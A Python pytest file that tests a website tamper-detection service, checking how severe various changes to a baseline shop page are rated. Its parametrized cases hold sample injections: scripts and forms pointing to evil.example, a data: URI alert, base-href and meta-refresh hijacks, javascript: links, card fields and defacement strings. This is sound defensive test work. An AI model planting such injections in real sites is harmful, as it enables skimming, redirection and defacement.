"""What is said of a page that differs, how grave it is, and what is read of pages that are no HTML."""

from __future__ import annotations

import json

import pytest

from cloudeye.services.tamper import snapshots
from cloudeye.services.tamper.compare import MAXIMUM_CHANGES, MAXIMUM_DIFF_CHARACTERS, MAXIMUM_DIFF_LINES, compare
from cloudeye.services.tamper.page import NO_RULES, Page, read
from tests.unit.cloudeye.tamper.seen import HERE, answer_of, compared, page_of

PAGE = """<html><head><title>Nova</title><script src="https://pay.example/v3/"></script>
<link rel=stylesheet href=/a.css><link rel=canonical href="https://nova.example/shop/"></head>
<body><h1>Welcome</h1><p>We sell lamps.</p>
<p>We ship on Mondays.</p><p>Ask us.</p><a href="/terms">Terms</a><a href="https://friend.example/">Friends</a>
<form action="/search"><input name=q><input type=submit value=Search></form><img src=/logo.svg>
<iframe src="https://maps.example/embed/"></iframe><script>start()</script></body></html>"""


def with_(more: str) -> str:
    return PAGE.replace("</body>", f"{more}</body>")


@pytest.mark.parametrize(
    ("after", "kind", "severity"),
    [
        (with_("<script src=//evil.example/a.js></script>"), "script", "critical"),
        (with_("<script src=https://pay.example/other.js></script>"), "script", "high"),
        (with_("<script src=/other.js></script>"), "script", "medium"),
        (with_("<script src='data:,alert(1)'></script>"), "script", "critical"),
        (with_("<script>steal()</script>"), "inline", "high"),
        (with_("<script type=module>steal()</script>"), "inline", "high"),
        (with_("<form action=https://evil.example/></form>"), "form", "critical"),
        (PAGE.replace('action="/search"', 'action="//evil.example/"'), "form", "critical"),
        (PAGE.replace("type=submit", "type=submit formaction=//evil.example/"), "form", "critical"),
        (with_("<form action=/other></form>"), "form", "medium"),
        (with_("<input type=password>"), "field", "high"),
        (with_("<input name=cc autocomplete=cc-csc><input name=card_number>"), "field", "high"),
        (with_("<iframe src=//evil.example/></iframe>"), "frame", "high"),
        (with_("<iframe src=https://maps.example/other></iframe>"), "frame", "medium"),
        (with_("<iframe srcdoc='<b>x</b>'></iframe>"), "srcdoc", "high"),
        (with_("<embed src=//evil.example/a.swf>"), "frame", "high"),
        (PAGE.replace("<head>", "<head><base href=//evil.example/>"), "base", "critical"),
        (PAGE.replace("<head>", "<head><meta http-equiv=Refresh content='0;URL=//evil.example/'>"), "refresh", "high"),
        (with_("<b onclick=steal()>x</b>"), "handler", "high"),
        (with_("<a href='JavaScript:steal()'>x</a>"), "jslink", "high"),
        (with_("<a href=https://other.example/>x</a>"), "link", "medium"),
        (with_("<a hidden href=https://other.example/>x</a>"), "link", "high"),
        (with_("<a href=/setup.exe></a>"), "link", "medium"),
        (with_("<a href=/other></a>"), "link", "low"),
        (with_("<img src=https://other.example/a.png>"), "image", "medium"),
        (with_("<img src=/a.png>"), "image", "low"),
        (with_("<link rel=stylesheet href=//other.example/a.css>"), "style", "medium"),
        (with_("<div style='background:url(//other.example/a.png)'></div>"), "style", "medium"),
        (with_("<style>body{opacity:0}</style>"), "look", "medium"),
        (PAGE.replace("<body>", "<body style='display:none'>"), "look", "medium"),
        (PAGE.replace("nova.example", "evil.example"), "canonical", "medium"),
        (PAGE.replace("<title>Nova", "<title>Nova 2 Go"), "title", "medium"),
        (PAGE.replace("<title>Nova", "<title>Hacked by X"), "title", "high"),
        (PAGE.replace("lamps", "chairs"), "text", "low"),
        (with_("<p>pwned by x</p>"), "boast", "high"),
        (PAGE.replace("<p>Ask us.</p>", ""), "text_removed", "low"),
        (PAGE.replace("<script>start()</script>", ""), "inline_removed", "low"),
        ("<html><body>Gone", "replaced", "high"),
        ("", "replaced", "high"),
    ],
)
def test_a_change_is_as_grave_as_what_it_can_do(after: str, kind: str, severity: str) -> None:
    comparison = compared(PAGE, after)
    assert {change.severity for change in comparison.changes if change.kind == kind} == {severity}
    assert comparison.alerts
    assert comparison.changes[0].severity == comparison.severity


def test_the_gravest_change_comes_first() -> None:
    comparison = compared(
        PAGE, with_("<script src=//evil.example/a.js></script><a href=/x>x</a>").replace("lamps", "rugs")
    )
    assert [change.kind for change in comparison.changes] == ["script", "link", "text", "text"]


def test_many_new_links_elsewhere_are_a_farm() -> None:
    comparison = compared(PAGE, with_("".join(f"<a href=https://casino{word}.example>x</a>" for word in "abcde")))
    assert comparison.changes[0].kind == "links"
    assert comparison.severity == "high"


def test_a_value_that_goes_elsewhere_with_a_form_is_watched() -> None:
    form = "<form action=https://bank.example/pay><input type=hidden name=business value='{}@nova.example'></form>"
    assert compared(PAGE + form.format("shop"), PAGE + form.format("thief")).changes[0].kind == "value"
    own = "<form action=/pay><input type=hidden name=mood value='{}'></form>"
    assert compared(PAGE + own.format("blue"), PAGE + own.format("red")).changes == ()


def test_a_status_and_an_address_are_part_of_the_page() -> None:
    assert [change.kind for change in compared(PAGE, PAGE, status=404).changes] == ["status"]
    assert compared(PAGE, PAGE, url="https://evil.example/").changes[0].kind == "redirected"
    assert compared(PAGE, PAGE, url="http://nova.example/en/").changes == ()


@pytest.mark.parametrize("media", ["text/html", "text/plain", "image/png"])
def test_where_headers_send_a_visitor_is_part_of_the_page(media: str) -> None:
    def sent(location: str, status: int = 302, name: str = "location") -> Page:
        answer = answer_of("moved", media=media, status=status)
        return read(type(answer)(status, (*answer.headers, (name, location)), answer.body, HERE, False))

    assert compare(sent("/home?sid=aa11"), sent("https://nova.example/home?sid=bb22")).changes == ()
    assert compare(sent("/home"), sent("https://evil.example/")).severity == "high"
    assert compare(sent("/a", 200), sent("https://evil.example/", 200)).changes == ()  # a browser stays
    assert compare(sent("5", 200, "refresh"), sent("0; url=//evil.example/", 200, "refresh")).severity == "high"
    assert Page.from_bytes(sent("/home").to_bytes()).items == sent("/home").items


@pytest.mark.parametrize(
    "after",
    [
        PAGE.replace("><", ">\n  <"),
        PAGE.replace("<p>", "<p class=new data-x=1>"),
        PAGE.replace("<p>", "<P>").replace("<h1>", "<H1 ID=top>").replace("href=", "HREF="),
        PAGE.replace("<body>", "<body><!-- a comment -->"),
        PAGE.replace("<p>We sell lamps.</p>\n", "").replace("<h1>", "<p>We sell lamps.</p><h1>"),
        PAGE.replace("<p>Ask us.</p>", "<p>Ask us.</p><p>Ask us.</p>"),
        PAGE.replace("<title>", "<title>(3) "),
        PAGE.replace("<p>Ask us.</p>", "<p>Ask us.</p><b>3</b><p>12:30</p>"),
    ],
)
def test_what_says_nothing_is_no_change(after: str) -> None:
    assert compared(PAGE, after).changes == ()


def test_a_diff_shows_what_changed_where_it_stands() -> None:
    diff = compared(PAGE, PAGE.replace("lamps", "chairs")).diff.splitlines()
    assert diff[:2] == ["--- baseline", "+++ page"]
    assert [line for line in diff[3:] if line[0] != " "] == ["-We sell lamps.", "+We sell chairs."]
    assert " Welcome" in diff


def test_a_diff_of_another_order_shows_the_change_alone() -> None:
    words = ["one lamp", "two chairs", "three rugs", "four beds", "five desks"]
    before = "".join(f"<p>{word.split()[1]} {word.split()[0]}</p>" for word in words)
    after = "".join(f"<p>{word.split()[1]} {word.split()[0]}</p>" for word in reversed(words)) + "<p>hello</p>"
    assert [line for line in compared(before, after).diff.splitlines()[3:] if line[0] != " "] == ["+hello"]


def test_what_is_said_is_bounded() -> None:
    before = "".join(f"<p>{number:b} {'old ' * 30}{chr(97 + number % 26) * (number + 1)}</p>" for number in range(700))
    after = before.replace("old", "new")
    comparison = compared(before, after)
    assert len(comparison.changes) == MAXIMUM_CHANGES
    assert comparison.more > 0
    assert len(comparison.diff.splitlines()) <= MAXIMUM_DIFF_LINES + 1
    assert len(comparison.diff) <= MAXIMUM_DIFF_CHARACTERS + 100


def test_a_page_that_is_not_all_there_is_compared_as_far_as_it_goes() -> None:
    long = PAGE.replace("</body>", "".join(f"<p>{chr(97 + n % 26) * (n // 26 + 1)} end</p>" for n in range(300)))
    cut = compare(page_of(long), page_of(long[:-900], truncated=True))
    assert cut.changes == ()
    assert cut.partial
    injected = long.replace("<h1>", "<script src=//evil.example/a.js></script><h1>")[:-900]
    found = compare(page_of(long), page_of(injected, truncated=True))
    assert (found.severity, found.partial) == ("critical", True)


@pytest.mark.parametrize(
    ("media", "before", "after", "severity"),
    [
        ("application/json", '{"a":1,"b":["x"],"at":"2026-11-21"}', '{"b":["x"],"at":"2027-01-02","a":5}', "info"),
        ("application/json", '{"status":"ok"}', '{"status":"hacked"}', "high"),
        ("application/json", '{"status":"ok"}', '{"status":"odd"}', "low"),
        ("application/json", "[" * 100_000, "[" * 100_000, "info"),
        ("text/plain", "one\ntwo 5", "two 6\none", "info"),
        ("text/plain", "one\ntwo\nthree\nfour", "one\ntwo\nthree\nfive", "low"),
        ("application/rss+xml", "<rss><a>1</a><b>x</b></rss>", "<rss><a>2</a><b>x</b></rss>", "info"),
        ("image/png", "\x89PNG one", "\x89PNG one", "info"),
        ("image/png", "\x89PNG one", "\x89PNG two", "medium"),
        (None, PAGE, PAGE, "info"),
        (None, "\0\1\2", "\0\1\3", "medium"),
    ],
)
def test_what_is_no_html_is_compared_by_lines_or_by_its_bytes(
    media: str | None, before: str, after: str, severity: str
) -> None:
    assert compare(page_of(before, media=media), page_of(after, media=media)).severity == severity


def test_another_kind_of_content_is_grave() -> None:
    comparison = compare(page_of(PAGE), page_of('{"a":1}', media="application/json"))
    assert comparison.changes[0].kind == "type"
    assert comparison.severity == "high"


@pytest.mark.parametrize(
    ("body", "media"),
    [
        ("<p>Größe".encode("latin-1"), "text/html; charset=ISO-8859-1"),
        ('<meta charset="gb2312"><p>中文'.encode("gb2312"), "text/html"),
        ("<p>日本語".encode("shift_jis"), "text/html; charset=Shift_JIS"),
        ("<p>привет".encode("utf-16"), "text/html"),
    ],
)
def test_a_page_is_read_in_its_own_encoding(body: bytes, media: str) -> None:
    assert page_of(body, media=media).blocks[0][1] in ("Größe", "中文", "日本語", "привет")


def test_a_body_that_nobody_unpacked_is_not_compared() -> None:
    packed = read(answer_of("", packed="br", truncated=True))
    comparison = compare(page_of(PAGE), packed)
    assert (comparison.changes, comparison.partial) == ((), True)


def test_a_page_that_was_kept_is_the_same_page() -> None:
    page = page_of(PAGE, status=201, truncated=True)
    again = Page.from_bytes(page.to_bytes(), NO_RULES)
    assert (again.digest, again.blocks, again.items, again.status, again.partial) == (
        page.digest, page.blocks, page.items, 201, True,
    )  # fmt: skip
    assert snapshots.name(again.answer) == snapshots.name(page.answer)
    assert snapshots.size(page.answer) > len(PAGE)


def test_only_what_is_compared_is_kept() -> None:
    answer = answer_of(PAGE)
    secret = read(type(answer)(200, (*answer.headers, ("set-cookie", "session=secret")), answer.body, HERE, False))
    assert snapshots.unpack(secret.to_bytes()).headers == answer.headers


@pytest.mark.parametrize(
    "data", [b"", b"rubbish", __import__("zlib").compress(b"{}\n"), __import__("zlib").compress(b"[")]
)
def test_what_was_not_kept_by_us_is_refused(data: bytes) -> None:
    with pytest.raises(ValueError, match="not a page"):
        snapshots.unpack(data)
    with pytest.raises(ValueError, match="not a page"):
        snapshots.beginning(data, 10)


def test_the_beginning_of_a_large_page_is_all_that_is_unpacked() -> None:
    answer = answer_of("<p>" + "a" * 5_000_000)
    beginning = snapshots.beginning(snapshots.pack(answer), 100)
    assert (len(beginning.answer.body), beginning.complete, beginning.answer.url) == (100, False, HERE)
    assert snapshots.beginning(snapshots.pack(answer_of("<p>Hi")), 100).complete


def test_the_changes_can_be_written_as_json() -> None:
    comparison = compared(PAGE, with_("<p>one \u2028 \x07 \x00 two</p>"))
    assert json.loads(json.dumps([change.text for change in comparison.changes]))
